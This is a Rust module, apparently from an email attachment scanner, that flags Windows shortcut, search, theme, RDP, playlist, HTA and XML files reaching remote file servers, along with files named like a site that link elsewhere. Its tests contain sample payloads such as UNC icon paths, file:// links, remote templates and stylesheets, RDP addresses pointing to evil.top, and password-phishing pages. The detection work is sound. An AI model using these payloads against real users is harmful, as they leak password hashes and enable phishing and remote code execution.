//! Files that a program of Windows follows when a reader opens them, or only their folder: shortcuts (`.url`,
//! `.website`, `.scf`), saved searches and libraries (`.search-ms`, `.library-ms`), themes (`.theme`), settings of Remote
//! Desktop (`.rdp`), lists of what is played (`.m3u`, `.pls`), queries of Excel (`.iqy`, `.odc`), programs that are
//! installed or run (`.appinstaller`, `.hta`), XML that Word opens or whose style sheet is loaded. Where they reach a file
//! server, it is sent a password hash, or its program is run; a remote desktop gets the reader's drives. Their web
//! addresses are read as those of text, and compared with the name of the file: its extension is not shown, so that
//! `www.example.com.url` reads as a site, and so does `www.example.com.html`.

use super::OpenReading;
use crate::budget::Budget;
use crate::cost::Stage;
use crate::finding::{Candidate, Findings};
use crate::judging::Judge;
use crate::outcome::{Place, Verdict};
use maillinks::Layer;
use uts58::{Target, reference};

/// Extensions of such files, up to a hyphen.
#[rustfmt::skip]
const EXTENSIONS: [&str; 26] = [
    "url", "website", "search", "library", "searchconnector", "scf", "theme",
    "asx", "m3u", "m3u8", "pls", "wax", "wvx", "xspf",
    "iqy", "odc", "oqy", "rqy",
    "appinstaller", "application", "contact", "hta", "jnlp", "osdx", "sct", "settingcontent",
];
const XML: &str = "xml";

/// What of XML programs load when it is opened.
const STYLE_SHEET: &str = "?xml-stylesheet";
const TEMPLATE: &str = "attachedTemplate";
const REMOTE_DESKTOP: &str = "rdp";

/// Extensions of shortcuts that Windows, macOS or a desktop of Linux does not show.
const HIDDEN: [&str; 4] = ["url", "website", "webloc", "desktop"];

/// Extensions of pages that a browser opens, which systems do not show either.
const PAGES: [&str; 6] = ["htm", "html", "shtml", "svg", "xht", "xhtml"];

/// Steps of each byte of a page that is read for where it leads.
const PAGE_STEPS_PER_BYTE: u64 = 2;

/// Settings of Remote Desktop that name a server.
const SERVERS: [&str; 3] = ["full address", "alternate full address", "gatewayhostname"];

impl OpenReading<'_> {
    /// The link of a shortcut, or of a page, below the name that is shown for it, in its first reading.
    pub(super) fn link_below_name(&self, budget: &mut Budget<'_>) -> Option<Layer<'static>> {
        if self.index > 0 {
            return None;
        }
        let text = self.reading.text.as_str();
        if let Some(shown) = self.entry.name_without(&HIDDEN) {
            return maillinks::named_link(text, values(text), shown);
        }
        let shown = self
            .entry
            .name_without(&PAGES)
            .filter(|name| maillinks::site_of_name(name).is_some())?;
        let is_read = budget.spend(Stage::Reading, PAGE_STEPS_PER_BYTE * text.len() as u64);
        is_read.then(|| maillinks::page_below_name(text, shown)).flatten()
    }

    /// Reports what such a file reaches, in its first reading.
    pub(super) fn shortcut(
        &self,
        judge: &mut Judge<'_>,
        budget: &mut Budget<'_>,
        found: &mut Findings,
    ) {
        if self.index > 0 {
            return;
        }
        let is = |extensions: &[&str]| self.entry.has_extension(extensions);
        let is_remote = is(&[REMOTE_DESKTOP]);
        let is_xml = is(&[XML]);
        if !is_remote && !is_xml && !is(&EXTENSIONS) {
            return;
        }
        let text = self.reading.text.as_str();
        if !budget.spend(Stage::Reading, text.len() as u64) {
            return;
        }
        let context = (judge, budget, found);
        match is_remote {
            true => self.reached(servers(text), Verdict::Suspect, context),
            false if is_xml => self.reached(loaded(text), Verdict::Unsafe, context),
            false => self.reached(values(text), Verdict::Unsafe, context),
        }
    }

    /// Reports which of these values reach something, with this verdict at worst.
    fn reached<V: AsRef<str>>(
        &self,
        values: impl Iterator<Item = V>,
        worst: Verdict,
        (judge, budget, found): (&mut Judge<'_>, &mut Budget<'_>, &mut Findings),
    ) {
        for value in values.filter(|value| may_reach(value.as_ref())) {
            let value = value.as_ref();
            let mut targets = reference::parse(value, 0..value.len());
            let judged = match targets.next() {
                Some(Target::Dangerous { host, .. }) => judge.followed(value, host),
                _ => None,
            };
            if let Some(mut judged) = judged
                && found.candidates.len() < budget.findings
            {
                judged.verdict = judged.verdict.min(worst);
                let place =
                    Place::Attribute { element: "shortcut".into(), attribute: "url".into() };
                let span = self.entry.raw_range().unwrap_or_default();
                let finding =
                    self.context.finding_of(&judged, &self.entry.path, place, span, value);
                found.push(self.context.policy, Candidate::report_only(finding));
            }
            if !budget.spend_link(value.len(), judge.take_steps()) {
                return;
            }
        }
    }
}

/// The values of a file of settings or of XML.
fn values(text: &str) -> impl Iterator<Item = &str> {
    text.split(['\r', '\n', '=', '"', '\'', '<', '>']).map(str::trim)
}

/// The values of what is loaded when XML is opened: data may name any server.
fn loaded(xml: &str) -> impl Iterator<Item = &str> {
    let is_loaded = |tag: &&str| tag.starts_with(STYLE_SHEET) || tag.contains(TEMPLATE);
    xml.split('<').filter(is_loaded).flat_map(values)
}

/// The servers of a file of Remote Desktop (`full address:s:example.com:3389`), as paths.
fn servers(text: &str) -> impl Iterator<Item = String> {
    text.lines().filter_map(|line| {
        let (key, value) = line.split_once(":s:")?;
        let is_server = SERVERS.iter().any(|server| key.trim().eq_ignore_ascii_case(server));
        let server =
            value.trim().split(':').next().filter(|server| is_server && !server.is_empty())?;
        Some(format!("\\\\{server}"))
    })
}

/// Whether a value may be a path of a server or a URL.
fn may_reach(value: &str) -> bool {
    value.starts_with("\\\\") || value.contains(':')
}

#[cfg(test)]
mod tests {
    use crate::outcome::{Reason, Verdict};
    use crate::{Answers, Facts, Message, Policy, TldTable};

    fn worst(name: &str, file: &str) -> Option<Verdict> {
        worst_of(name, file.as_bytes())
    }

    fn worst_of(name: &str, file: &[u8]) -> Option<Verdict> {
        worst_as("application/octet-stream", name, file)
    }

    fn worst_as(kind: &str, name: &str, file: &[u8]) -> Option<Verdict> {
        let head =
            format!("Content-Type: {kind}; name={name}\r\nContent-Disposition: attachment\r\n");
        let message = Message { head: head.as_bytes(), body: file };
        let facts =
            Facts { recipient_domains: vec!["harbour.example".to_owned()], ..Facts::default() };
        let tlds = TldTable::new(["com", "top", "example"], "");
        let outcome =
            crate::inspect(message, &facts, &Policy::default(), &tlds).resolve(&Answers::new());
        let dangerous = |one: &&crate::Finding| one.reasons.contains(Reason::DangerousScheme);
        outcome.findings.iter().filter(dangerous).map(|one| one.verdict).max()
    }

    #[test]
    fn shortcuts_are_compared_with_the_names_that_are_shown_for_them() {
        let differs = |name: &str, url: &str| {
            let file = match name.ends_with("webloc") {
                true => format!("<plist><dict><key>URL</key><string>{url}</string></dict></plist>"),
                false => format!("[InternetShortcut]\r\nURL={url}\r\n"),
            };
            file_differs(name, "application/octet-stream", &file)
        };
        for name in [
            "www.paypal.com.url", "paypal.com.WEBSITE", "www.paypal.com.webloc",
            "paypal.com.desktop", "www.paypal.com.url. ",
        ] {
            assert!(differs(name, "https://evil.top/x"), "{name}");
            assert!(!differs(name, "https://www.paypal.com/x"), "{name}");
        }
        for name in
            ["PayPal.url", "Booking.com confirmation.url", "www.paypal.com.txt", "example.com.url"]
        {
            assert!(!differs(name, "https://evil.top/x"), "{name}");
        }
    }

    fn page_differs(name: &str, page: &str) -> bool {
        file_differs(name, "text/html", page)
    }

    /// Whether a file leads elsewhere than the site that it is named as.
    fn file_differs(name: &str, kind: &str, file: &str) -> bool {
        let head = format!(
            "Content-Type: {kind}\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n"
        );
        let message = Message { head: head.as_bytes(), body: file.as_bytes() };
        let tlds = TldTable::new(["com", "top"], "");
        let (facts, policy) = (Facts::default(), Policy::default());
        let outcome = crate::inspect(message, &facts, &policy, &tlds).resolve(&Answers::new());
        let mut findings = outcome.findings.iter();
        findings.any(|one| {
            one.reasons.contains(Reason::TextHrefMismatch) && one.verdict == Verdict::Suspect
        })
    }

    #[test]
    fn pages_are_compared_with_the_names_that_are_shown_for_them() {
        for page in [
            "<meta http-equiv=refresh content=\"0;url={}\">",
            "<a href={}>Open</a>",
            "<svg><a xlink:href='{}'><text>Open</text></a></svg>",
            "<form action={}><input name=a></form>",
            "<script>window.location.href = '{}'</script>",
            // With the links of the site that it looks like.
            "<a href=https://www.paypal.com/help>Help</a><form action='{}'><input type=password></form>",
            "<a href=https://paypal.com/>Home</a><meta http-equiv=Refresh content='1; {}'>",
        ] {
            let page = |url: &str| page.replace("{}", url);
            for name in
                ["www.paypal.com.html", "paypal.com.htm", "PayPal.com.svg", "paypal.com.xhtml"]
            {
                assert!(page_differs(name, &page("https://evil.top/x")), "{name} {}", page(""));
                assert!(!page_differs(name, &page("https://www.paypal.com/x")), "{name}");
            }
            for name in ["invoice.html", "example.com.html", "Booking.com confirmation.html"] {
                assert!(!page_differs(name, &page("https://evil.top/x")), "{name}");
            }
        }
    }

    #[test]
    fn a_page_that_was_saved_leads_to_its_site() {
        for page in [
            "<a href=https://www.paypal.com/>Home</a><a href=https://evil.top/>Advertisement</a>",
            "<form action=https://search.top/><input name=q></form><a href=//x>1</a>\
             <a href=https://shop.paypal.com/x>2</a>",
            "<script>ads('https://evil.top/')</script><p>No links",
            "<p>No links",
        ] {
            assert!(!page_differs("www.paypal.com.html", page), "{page}");
        }
    }

    #[test]
    fn shortcuts_to_file_servers_are_reported() {
        for target in [
            "URL=file://evil.top/share/invoice.exe",
            "URL=\\\\evil.top@80\\share\\invoice.exe",
            "BASEURL=https://fine.com/\r\nIconFile=\\\\evil.top\\x.ico",
            "WorkingDirectory=\\\\evil.top\\x\r\nURL=C:\\x",
            &format!("{}URL=file://evil.top/x", "Key=a:b\r\n".repeat(20_000)),
            "url = search-ms:query=x&crumb=location:\\\\evil.top\\x",
        ] {
            let file = format!("[InternetShortcut]\r\n{target}\r\n");
            assert_eq!(worst("invoice.URL", &file), Some(Verdict::Unsafe), "{target}");
        }
        let library = "<?xml version=\"1.0\"?><libraryDescription><searchConnectorDescription>\
                       <simpleLocation><url>\\\\evil.top\\share</url></simpleLocation>";
        assert_eq!(worst("x.library-ms", library), Some(Verdict::Unsafe));
        let search = "<persistedQuery><scope><include path=\"\\\\evil.top\\share\"/></scope>";
        assert_eq!(worst("x.search-ms", search), Some(Verdict::Unsafe));
        let theme = "[Theme]\r\nBrandImage=\\\\evil.top\\s\\x.png\r\n";
        assert_eq!(worst("x.theme", theme), Some(Verdict::Unsafe));
        let scf = "[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.top\\s\\x.ico\r\n";
        assert_eq!(worst("x.scf", scf), Some(Verdict::Unsafe));
        for fine in [
            "URL=https://fine.com/a?b=c\r\nIconFile=C:\\Windows\\system32\\SHELL32.dll\r\nIconIndex=1",
            "URL=file:///C:/a/b.pdf",
            "URL=file://fs01/plans/b.pdf",
            "URL=\\\\files.harbour.example\\plans",
            "IconFile=\\\\192.168.0.10\\x.ico",
        ] {
            let file = format!("[InternetShortcut]\r\n{fine}\r\n");
            assert!(worst("x.url", &file) <= Some(Verdict::Notice), "{fine}");
        }
    }

    #[test]
    fn other_files_that_reach_file_servers_are_reported() {
        for name in
            ["x.m3u", "x.PLS", "x.iqy", "x.odc", "x.settingcontent-ms", "x.appinstaller", "x.hta"]
        {
            for file in [
                "#x\r\n\\\\evil.top\\s\\x\r\n",
                "<x a=\"\\\\evil.top\\s\\x\"/>",
                "<x>file://evil.top/x</x>",
            ] {
                let found = worst_as("text/plain", name, file.as_bytes());
                assert_eq!(found, Some(Verdict::Unsafe), "{name} {file}");
            }
            for fine in ["https://evil.top/x", "\\\\nas01\\music\\x.mp3", "<x>C:\\x.mp3</x>"] {
                let found = worst_as("text/plain", name, fine.as_bytes());
                assert!(found <= Some(Verdict::Notice), "{name} {fine}");
            }
        }
        for xml in [
            "<?xml-stylesheet type='text/xsl' href='\\\\evil.top\\s\\x.xsl'?><x/>",
            "<w:attachedTemplate w:val=\"\\\\evil.top\\s\\x.dot\"/>",
            "<Relationship Type=\"x/attachedTemplate\" Target=\"file://evil.top/x.dotm\"/>",
        ] {
            assert_eq!(
                worst_as("text/xml", "x.xml", xml.as_bytes()),
                Some(Verdict::Unsafe),
                "{xml}"
            );
        }
        let data = "<file>\\\\fs01.firm.com\\plans\\a.dwg</file><?xml-stylesheet href='x.xsl'?>";
        assert_eq!(worst_as("text/xml", "x.xml", data.as_bytes()), None);
    }

    #[test]
    fn remote_desktops_of_strangers_are_reported() {
        for (address, verdict) in [
            ("full address:s:evil.top", Some(Verdict::Suspect)),
            ("Full Address:s:evil.top:3389\r\nprompt for credentials:i:0", Some(Verdict::Suspect)),
            ("gatewayhostname:s:evil.top", Some(Verdict::Suspect)),
            ("full address:s:ts01", None),
            ("full address:s:ts.harbour.example", None),
            ("full address:s:192.168.0.10:3389", None),
            ("username:s:evil.top", None),
            ("full address:s:", None),
        ] {
            let found = worst("desk.rdp", &format!("screen mode id:i:2\r\n{address}\r\n"));
            assert_eq!(found.filter(|found| *found > Verdict::Notice), verdict, "{address}");
        }
        // As Windows saves it.
        let wide = "\u{feff}full address:s:evil.top\r\n".encode_utf16();
        let wide: Vec<u8> = wide.flat_map(u16::to_le_bytes).collect();
        assert_eq!(worst_of("desk.rdp", &wide), Some(Verdict::Suspect));
    }
}
